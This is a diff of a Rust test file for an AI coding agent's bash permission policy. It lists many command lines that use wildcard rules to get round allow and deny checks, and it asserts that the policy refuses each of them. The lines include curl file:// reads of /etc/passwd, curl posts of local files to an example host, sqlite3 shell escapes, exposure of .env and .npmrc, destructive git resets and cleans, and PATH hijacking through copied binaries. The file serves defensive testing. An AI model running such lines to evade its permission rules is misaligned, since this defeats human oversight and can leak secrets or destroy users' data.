@@ -1,13 +1,13 @@
 //! Lines that rules with wildcards must not let pass, by the kind of the way around. Each of them ran, wrote or read in a
 //! real bash what its rules do not cover.
 
-use opencode_rs::permission::Action;
-use opencode_rs::request::{Effect, Preset};
+use opencode_rs::permission::{Action, Policy};
+use opencode_rs::request::{Effect, PermissionRequest, Preset};
 
-use super::table::ground;
+use super::table::{self, ground, read_rule};
 
 /// The rules, and the lines that are asked about or denied with them.
-const REFUSED: [(&[&str], &[&str]); 12] = [
+const REFUSED: [(&[&str], &[&str]); 18] = [
     // A pattern in a test may become an operator that computes.
     (
         &["allow bash:ls *", "allow bash:test *"],
@@ -195,10 +195,139 @@ const REFUSED: [(&[&str], &[&str]); 12] = [
             "printf \"$x\" HOME d; git status",
         ],
     ),
+    // A directory that may not be the one after `cd`.
+    (
+        &[
+            "allow bash:sort *",
+            "allow bash:cat *",
+            "allow bash:echo *",
+            "allow bash:git status*",
+        ],
+        &[
+            "true || cd docs && sort ../elsewhere/f",
+            "true || cd docs && echo hi > ../new",
+            "! cd a.txt && cat ../elsewhere/f",
+            "! cd docs && cat ../elsewhere/f",
+            "true || cd docs && cat out-file",
+            "command -- cd docs && cat ../../elsewhere/f",
+            "command -p cd sub && cat in/../out-file",
+            "cd bare && true || cd docs && git status",
+            "for f in a.txt; do command -- read -r f < b.txt; cat \"$f\"; done",
+        ],
+    ),
+    // A file that has the name of a program.
+    (
+        &[
+            "allow bash:git status*",
+            "allow bash:find *",
+            "allow bash:cat *",
+            "allow bash:./scripts/*",
+            "allow bash:make*",
+        ],
+        &[
+            "docs/timeout 5 git status",
+            "docs/env git status",
+            "./timeout.exe 1 git status",
+            "find . -name a.txt | docs/xargs cat",
+            "./scripts/../docs/evil.sh",
+            "make/../docs/evil.sh",
+        ],
+    ),
+    // What stands behind many letters, in a bracket, or in a part of a name.
+    (
+        &[
+            "allow bash:sed *",
+            "allow bash:cp *",
+            "allow bash:mv *",
+            "allow bash:split *",
+            "allow bash:gzip *",
+            "allow bash:sqlite3 *",
+        ],
+        &[
+            "sed 's/[/]/g;s/e#/x/' a.txt",
+            "sed -n 's.[.].g;s.w.npmrc.' a.txt",
+            "cp -vvvvvvvt.git config2",
+            "mv -vvvvvvvt.husky pre-commit",
+            "cp -b -S rc a.txt .npm",
+            "split -l1 -a1 --additional-suffix=c a.txt .npm",
+            "gzip -dk .npmrc.gz",
+            "sqlite3 x.db \"attach '../elsewhere/new.db' as n\"",
+            "sqlite3 x.db \"select * from fsdir('../elsewhere')\"",
+            "echo '.shell touch c' | sqlite3 x.db",
+        ],
+    ),
+    // Paths that another command gives.
+    (
+        &[
+            "allow bash:find *",
+            "allow bash:xargs *",
+            "allow bash:echo *",
+            "allow bash:git *",
+            "allow bash:zip *",
+            "allow bash:md5sum *",
+        ],
+        &[
+            "find docs 'no ../elsewhere/f x' -name zzz |& xargs cat",
+            "find docs 'no ../elsewhere/f x' -name zzz 2>&1 | sort | xargs cat",
+            "find docs -name zq | xargs -0 cat",
+            "echo ../elsewhere/f | git hash-object -w --stdin-paths",
+            "echo .env | git add -f --pathspec-from-file=-",
+            "git add -f . && git diff --cached",
+            "echo ../elsewhere/f | zip -q x.zip -@",
+            "md5sum -c a.txt",
+            "git commit -q --allow-empty --trailer -m \"$(cat a.txt)\"",
+            "git grep --untracked --no-exclude-standard the -- '.e*'",
+            "git config -l -f a.txt --includes",
+            "git -C bare/objects status",
+        ],
+    ),
+    // Addresses that the program makes something else of.
+    (
+        &["allow bash:curl *", "allow bash:wget *"],
+        &[
+            "curl --proto-default file localhost/etc/passwd",
+            "curl 'fil{e}:///etc/passwd'",
+            "curl -s -H -d 'fil[e-e]:///etc/passwd'",
+            "curl file:/etc/passwd",
+            "curl -snv https://a.example",
+            "curl --data-urlencode x@a.txt https://a.example",
+            "curl -d @a.txt https://a.example",
+            "curl -w '%output{.envrc}x' https://a.example",
+            "wget https://a.example/%2eenvrc",
+        ],
+    ),
+    // What is denied may be in a value, and names may come last in a pattern.
+    (
+        &[
+            "allow bash",
+            "deny bash:touch *",
+            "deny edit:**/key",
+            "deny edit:docs/**",
+        ],
+        &[
+            "script -qc'touch c' /dev/null",
+            "su -c'touch c'",
+            "echo touch | xargs --repl=X env X c",
+            "sort --compress-program ./touch a.txt > o",
+            "rm -r secrets",
+            "mv secrets sub/",
+            "git reset -q --hard HEAD~1",
+            "git clean -fdxq",
+            "git stash -q",
+        ],
+    ),
 ];
 
-/// Links that come while the line runs.
-const LINKS: [&str; 4] = [
+/// Links that come while the line runs, and files that become others.
+const LINKS: [&str; 12] = [
+    "git checkout -q evil && cat a.txt",
+    "git checkout -q evil && echo hi >> a.txt",
+    "git stash pop -q && grep -r the docs",
+    "mv sub docs/s && cat docs/s/*",
+    "ln -s in sub/x && cat sub/x",
+    "cp -P out-file k && cat k",
+    "cp -r sub docs/s && grep -r the docs",
+    "echo '!.env' > .ignore; rg the",
     "tar xf a.tar && cat l",
     "git checkout evil -- l && cat l",
     "git checkout -q evil && echo hi > l/new",
@@ -212,8 +341,14 @@ fn no_way_around_a_rule_is_allowed() {
         "allow bash:tar *",
         "allow bash:git checkout *",
         "allow bash:git mv *",
+        "allow bash:git stash *",
         "allow bash:cat *",
         "allow bash:echo *",
+        "allow bash:mv *",
+        "allow bash:cp *",
+        "allow bash:ln *",
+        "allow bash:grep *",
+        "allow bash:rg *",
     ];
     let mut allowed = Vec::new();
     for (rules, lines) in REFUSED.iter().copied().chain([(links.as_slice(), LINKS.as_slice())]) {
@@ -231,4 +366,81 @@ fn no_way_around_a_rule_is_allowed() {
         }
     }
     assert!(allowed.is_empty(), "{}", allowed.join("\n"));
+}
+
+/// A quoted bracket stays one beside a pattern, and a directory may be called like the beginning of an address.
+#[test]
+fn names_with_odd_characters_are_what_the_shell_makes_of_them() {
+    let ground = ground();
+    let work = ground.directory();
+    for folder in ["app/[id]", "file:"] {
+        std::fs::create_dir_all(work.join(folder)).unwrap();
+    }
+    std::fs::write(work.join("app/[id]/prod.env"), "KEY").unwrap();
+    std::os::unix::fs::symlink("../../elsewhere/f", work.join("file:/l")).unwrap();
+    std::os::unix::fs::symlink("../../../elsewhere/f", work.join("app/[id]/l")).unwrap();
+    let rules = ["allow bash:cat *", "allow bash:cp *", "allow bash:tee *"].map(str::to_owned);
+    let policy = ground.policy(Preset::AutoTools, &rules);
+    for line in [
+        "cat 'app/[id]'/pro*",
+        "cat app/\\[id\\]/pro*",
+        "cat \"[p\"r]od*; cat \"app/[id]/l\"*",
+        "cp a.txt \"app/[id]\"/l*",
+        "for f in 'app/[id]'/*; do tee \"$f\" < a.txt; done",
+        "cat < file://l",
+        "cat a.txt > file://l",
+    ] {
+        let action = Action::Shell {
+            command: line.to_owned(),
+            workdir: None,
+        };
+        assert_ne!(policy.judge(&action).effect, Effect::Allow, "{line}");
+    }
+    let path = "file://l".to_owned();
+    for tool in ["read", "edit"] {
+        let action = table::action(tool, &serde_json::json!({ "filePath": path }));
+        assert_ne!(policy.judge(&action).effect, Effect::Allow, "{tool}");
+    }
+}
+
+/// Who works in the home brings nothing to where programs are started from by moving a directory.
+#[test]
+fn what_arrives_in_a_directory_is_judged_there() {
+    let ground = ground();
+    let home = ground.directory();
+    for file in ["d/.local/bin/git", "d/bin/git", "e/bin/git", "d/.bashrc", "go/bin/x"] {
+        let file = home.join(file);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, "").unwrap();
+    }
+    let request = PermissionRequest {
+        preset: Preset::AutoTools,
+        rules: ["cp", "mv", "rsync", "tar", "ls"]
+            .map(|name| read_rule(&format!("allow bash:{name} *")))
+            .to_vec(),
+        ..PermissionRequest::default()
+    };
+    let policy = Policy::new(&request, &home, &home);
+    let judge = |line: &str| {
+        policy
+            .judge(&Action::Shell {
+                command: line.to_owned(),
+                workdir: None,
+            })
+            .effect
+    };
+    for line in [
+        "cp -r d/. .",
+        "cp -a d/. ~",
+        "cp -r d/* .",
+        "mv e/bin .",
+        "mv d/.local .",
+        "mv -t . e/bin",
+        "rsync -a d/ .",
+        "tar xf a.tar",
+        "mv go g2 && cp a.txt g2/bin/git && mv g2 go",
+    ] {
+        assert_ne!(judge(line), Effect::Allow, "{line}");
+    }
+    assert_eq!(judge("cp a.txt sub/"), Effect::Allow);
 }
